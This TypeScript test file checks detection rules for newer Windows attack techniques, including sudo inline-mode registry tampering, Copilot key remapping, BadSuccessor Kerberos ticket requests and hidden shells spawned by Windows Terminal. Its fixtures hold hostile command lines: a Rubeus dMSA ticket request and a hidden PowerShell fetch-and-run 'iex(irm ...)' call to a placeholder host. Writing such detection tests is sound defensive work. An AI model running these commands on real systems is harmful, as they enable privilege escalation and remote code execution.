// Built-in rules for the newest Windows in intruders' hands (Windows 11 24H2, Server 2025): sudo for Windows switched to
// inline mode behind Settings' back, the Copilot key remapped to another app, a Kerberos ticket asked for as a delegated
// managed service account (BadSuccessor), and Windows Terminal opening a hidden shell. Each rule fires on the event it
// is written for, as Windows or Sysmon writes it, with its level and a tactic of what the event shows, and a benign near
// miss of the same event type does not fire it.
import { describeCatalogue, proc, PS, reg, S32, type CatalogueCase } from './builtin.fixture.js';

const SUDO = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Sudo\\Enabled';
const BRANDED = 'HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\Shell\\BrandedKey\\';
const RUBEUS = 'C:\\Users\\Public\\Documents\\Rubeus.exe';
const WT_DIR = 'C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.21.2911.0_x64__8wekyb3d8bbwe\\';
const PWSH = 'C:\\Program Files\\PowerShell\\7\\pwsh.exe';

/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['Sudo For Windows Switched To Inline Mode Outside Settings', 'medium', 'privilege-escalation',
    reg(SUDO, 'DWORD (0x00000003)'), reg(SUDO, 'DWORD (0x00000003)', 'C:\\Windows\\ImmersiveControlPanel\\SystemSettings.exe')],
  ['Sudo For Windows Switched To Inline Mode Outside Settings', 'medium', 'stealth',
    reg(SUDO, 'DWORD (0x00000003)', PS), reg(SUDO, 'DWORD (0x00000001)')],
  ['Copilot Key Remapped To An App Outside Settings', 'medium', 'persistence',
    reg(`${BRANDED}AppAumid`, 'NotesSync.Helper_8x2j4k6m0n1pq!App'),
    reg(`${BRANDED}AppAumid`, 'Microsoft.Copilot_8wekyb3d8bbwe!App', 'C:\\Windows\\ImmersiveControlPanel\\SystemSettings.exe')],
  ['Copilot Key Remapped To An App Outside Settings', 'medium', 'persistence',
    reg(`${BRANDED}BrandedKeyChoiceType`, 'App', PS),
    reg('HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\Shell\\Bags\\1\\Desktop\\FFlags', 'DWORD (0x40200224)', PS)],
  ['Kerberos Ticket Requested As A Delegated Managed Service Account With A Ticket Tool', 'high', 'privilege-escalation',
    proc(RUBEUS, 'Rubeus.exe asktgs /targetuser:web_dmsa$ /service:krbtgt/corp.example /opsec /dmsa /nowrap /ptt /ticket:doIFqjCCBaag', `${S32}cmd.exe`),
    proc(RUBEUS, 'Rubeus.exe asktgs /service:cifs/dc01.corp.example /nowrap /ptt /ticket:doIFqjCCBaag', `${S32}cmd.exe`)],
  ['Hidden-Window Shell Started By Windows Terminal', 'medium', 'persistence',
    proc(PWSH, `"${PWSH}" -nol -w hidden -c "Start-Process -WindowStyle Hidden $env:LOCALAPPDATA\\Microsoft\\Teams\\msteamsupd.exe"`, `${WT_DIR}WindowsTerminal.exe`),
    proc(PWSH, `"${PWSH}" -nologo`, `${WT_DIR}WindowsTerminal.exe`)],
  ['Hidden-Window Shell Started By Windows Terminal', 'medium', 'execution',
    proc(PWSH, 'pwsh -WindowStyle Hidden -c iex(irm https://cdn.example/a)', 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\WindowsApps\\wt.exe'),
    proc(PWSH, 'pwsh -WindowStyle Hidden -c iex(irm https://cdn.example/a)', 'C:\\Windows\\explorer.exe')],
];

describeCatalogue('built-in rules for the newest Windows in intruders\' hands', cases);
